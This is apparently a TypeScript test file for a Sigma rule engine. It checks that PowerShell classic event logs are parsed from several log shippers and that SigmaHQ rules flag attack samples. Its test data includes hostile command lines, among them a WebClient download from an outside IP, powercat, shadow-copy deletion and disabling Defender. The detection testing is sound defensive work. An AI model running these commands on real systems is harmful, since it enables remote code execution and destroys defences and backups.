import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Event } from '../../src/model/event.js';
import { compileRules } from '../../src/sigma/compile.js';
import { EventFieldView } from '../../src/sigma/event-view.js';
import { loadRules } from '../../src/sigma/load.js';
import { normalized } from '../helpers/normalized.js';
import { describeShared, sharedPath } from '../helpers/shared.js';
import { temporaryFolder } from '../helpers/temporary-folder.js';

interface Said {
  readonly id?: 400 | 600 | 800;
  readonly application?: string;
  readonly host?: string;
  readonly hostVersion?: string;
  readonly engineVersion?: string;
  readonly provider?: string;
  readonly commandLine?: string;
}

/** The value of the event, as Windows PowerShell 5.1 writes it. */
function detailsOf(said: Said): string {
  const state =
    said.id === 600
      ? [`ProviderName=${said.provider ?? 'Registry'}`, 'NewProviderState=Started']
      : ['NewEngineState=Available', 'PreviousEngineState=None'];
  const groups = [
    state,
    ['SequenceNumber=13'],
    [
      `HostName=${said.host ?? 'ConsoleHost'}`,
      `HostVersion=${said.hostVersion ?? '5.1.19041.1'}`,
      'HostId=0b1f5a67-3e3c-4f0e-8a58-0d4b8a1f6b01',
      `HostApplication=${said.application ?? 'powershell.exe'}`,
      `EngineVersion=${said.engineVersion ?? '5.1.19041.1'}`,
      'RunspaceId=0b1f5a67-3e3c-4f0e-8a58-0d4b8a1f6b02',
      'PipelineId=',
      'CommandName=',
      'CommandType=',
      'ScriptName=',
      'CommandPath=',
      `CommandLine=${said.commandLine ?? ''}`,
    ],
  ];
  return groups.map((lines) => lines.map((line) => `\t${line}\r\n`).join('')).join('\r\n');
}

const messageOf = (said: Said): string =>
  `Engine state is changed from None to Available. \r\n\r\nDetails: \r\n${detailsOf(said)}`;

const NXLOG = {
  Channel: 'Windows PowerShell',
  SourceName: 'PowerShell',
  Hostname: 'pc-17',
  SeverityValue: 2,
};

/** One event as each shipper sends it. */
const SHIPPED: Readonly<Record<string, (said: Said) => string>> = {
  'NXLog as JSON': (said) => JSON.stringify({ EventID: said.id ?? 400, ...NXLOG, Message: messageOf(said) }),
  'NXLog as structured data': (said) =>
    `<14>1 2026-11-20T10:00:00Z pc-17 PowerShell 0 - [NXLOG@14506 EventID="${said.id ?? 400}" Channel="Windows PowerShell"] ${messageOf(said).replaceAll('\r\n', '  ')}`,
  'winlogbeat without parameters': (said) =>
    JSON.stringify({
      winlog: {
        channel: 'Windows PowerShell',
        provider_name: 'PowerShell',
        event_id: String(said.id ?? 400),
      },
      message: messageOf(said),
    }),
  winlogbeat: (said) =>
    JSON.stringify({
      winlog: {
        ...{ channel: 'Windows PowerShell', provider_name: 'PowerShell', event_id: String(said.id ?? 400) },
        event_data: { param1: 'Available', param2: 'None', param3: detailsOf(said) },
      },
    }),
  'an evtx export': (said) =>
    JSON.stringify({
      Event: {
        System: { EventID: said.id ?? 400, Channel: 'Windows PowerShell', Computer: 'pc-17' },
        EventData: { Data: ['Available', 'None', detailsOf(said)] },
      },
    }),
};

const field = (event: Event, name: string): unknown => {
  const view = new EventFieldView(event);
  view.reset();
  return view.get(name);
};

describe.each(Object.entries(SHIPPED))('windows powershell from %s', (_, shipped) => {
  it('has its pairs under their names', () => {
    const application = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c "$a=1; x=2\tb"';
    const event = normalized(shipped({ application, hostVersion: '2.0' }));
    expect(field(event, 'HostApplication')).toBe(application);
    expect(event['process.command_line']).toBe(application);
    expect(field(event, 'HostVersion')).toBe('2.0');
    expect(field(event, 'EngineVersion')).toBe('5.1.19041.1');
    expect(field(event, 'HostName')).toBe('ConsoleHost');
    expect(field(event, 'NewEngineState')).toBe('Available');
    expect(field(event, 'CommandName')).toBeUndefined();
    expect(String(field(event, 'Data'))).toContain('HostApplication=C:\\Windows');
  });

  it('is not misled by pairs that were typed', () => {
    const application =
      'powershell -c "\tHostVersion=9 \tEngineVersion=9 \tRunspaceId=x \tHostApplication=y"';
    const event = normalized(shipped({ application, commandLine: 'Get-Date' }));
    expect(field(event, 'HostApplication')).toBe(application);
    expect(field(event, 'HostVersion')).toBe('5.1.19041.1');
    expect(field(event, 'EngineVersion')).toBe('5.1.19041.1');
    expect(field(event, 'RunspaceId')).toBe('0b1f5a67-3e3c-4f0e-8a58-0d4b8a1f6b02');
    expect(field(event, 'CommandLine')).toBe('Get-Date');
  });
});

it('names who ran a pipeline', () => {
  const Message = `Pipeline execution details for command line: ls. \r\n\r\nContext Information: \r\n\tDetailSequence=1\r\n\tUserId=CORP\\alice\r\n${detailsOf({})}`;
  const event = normalized(JSON.stringify({ EventID: 800, ...NXLOG, Message }));
  expect([event['user.name'], event['user.domain']]).toEqual(['CORP\\alice', 'CORP']);
});

it('a message of another kind, long or empty, is kept as it is', () => {
  for (const Message of [
    '',
    'HostApplication=',
    '='.repeat(100_000),
    `${'a'.repeat(200_000)}=`,
    'EngineVersion=2 x',
  ]) {
    const event = normalized(JSON.stringify({ EventID: 403, ...NXLOG, Message }));
    expect(field(event, 'HostApplication')).toBeUndefined();
  }
  const other = normalized(
    JSON.stringify({ EventID: 1, Channel: 'Application', SourceName: 'x', Message: 'a=b' }),
  );
  expect(field(other, 'Data')).toBeUndefined();
});

/** What each of SigmaHQ's rules is written for, and beside it something that it must not match. */
const WANTED: Readonly<Record<string, readonly [Said, Said]>> = {
  posh_pc_downgrade_attack: [{ engineVersion: '2.0' }, { engineVersion: '2.0', hostVersion: '2.0' }],
  posh_pc_renamed_powershell: [{ application: 'C:\\Temp\\update.exe' }, {}],
  posh_pc_susp_zip_compress: [
    { application: 'powershell Compress-Archive -Path C:\\x -DestinationPath $env:TEMP\\x.zip' },
    {},
  ],
  posh_pc_wsman_com_provider_no_powershell: [
    { id: 600, provider: 'WSMan', application: 'C:\\Temp\\x.exe' },
    { id: 600, provider: 'WSMan' },
  ],
  posh_pc_abuse_nslookup_with_dns_records: [
    { application: 'powershell .(nslookup -q=txt http.example)[-1][1]' },
    { application: 'powershell nslookup example.org' },
  ],
  posh_pc_exe_calling_ps: [{ hostVersion: '3.0', engineVersion: '5.1' }, { hostVersion: '5.0' }],
  posh_pc_powercat: [{ application: 'powershell powercat -c 203.0.113.7' }, {}],
  posh_pc_download_via_webclient: [
    { application: "powershell (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')" },
    { application: 'powershell (New-Object Net.WebClient)' },
  ],
  posh_pc_susp_get_nettcpconnection: [{ application: 'powershell Get-NetTCPConnection' }, {}],
  posh_pc_remotefxvgpudisablement_abuse: [
    { id: 800, commandLine: 'ModuleContents=function Get-VMRemoteFXPhysicalVideoAdapter {' },
    { id: 800 },
  ],
  posh_pc_delete_volume_shadow_copies: [
    { application: 'powershell Get-WmiObject Win32_ShadowCopy | % { $_.Delete() }' },
    { application: 'powershell Get-WmiObject Win32_ShadowCopy' },
  ],
  posh_pc_tamper_windows_defender_set_mp: [
    { id: 600, application: 'powershell Set-MpPreference -DisableRealtimeMonitoring 1' },
    { id: 600, application: 'powershell Set-MpPreference' },
  ],
  posh_pc_remote_powershell_session: [
    { host: 'ServerRemoteHost', application: 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding' },
    { application: 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding' },
  ],
  posh_pc_alternate_powershell_hosts: [{ application: 'C:\\Temp\\host.exe' }, {}],
  posh_pc_bxor_operator_usage: [
    { application: 'powershell $a -bxor 7' },
    { application: 'powershell -band 7' },
  ],
};

describeShared('SigmaHQ rules for the classic log', () => {
  it('match what they are written for, from every shipper', () => {
    const folder = temporaryFolder();
    execFileSync('tar', ['-xJf', sharedPath('corpus', 'sigmahq-rules.tar.xz'), '-C', folder]);
    const listed = execFileSync('grep', ['-rlE', 'category: ps_classic|service: powershell-classic', folder]);
    const paths = listed.toString().trim().split('\n');
    const nameOf = (path: string): string => path.split('/').at(-1)!.replace('.yml', '');
    expect(paths.map(nameOf).sort()).toEqual(Object.keys(WANTED).sort());
    const { rules } = loadRules(paths.map((path) => ({ path, text: readFileSync(join(path), 'utf8') })));
    const ruleset = compileRules(rules, {});
    const matching = (line: string): string[] => {
      const event = normalized(line);
      const view = new EventFieldView(event);
      view.reset();
      const hits: number[] = [];
      ruleset.match(view, event.logsource, hits);
      return hits.map((hit) => nameOf(ruleset.rules[hit]!.place.file));
    };
    for (const [shipper, shipped] of Object.entries(SHIPPED)) {
      for (const [name, [match, other]] of Object.entries(WANTED)) {
        expect(matching(shipped(match)), `${name} from ${shipper}`).toContain(name);
        expect(matching(shipped(other)), `${name} from ${shipper}`).not.toContain(name);
      }
    }
  });
});
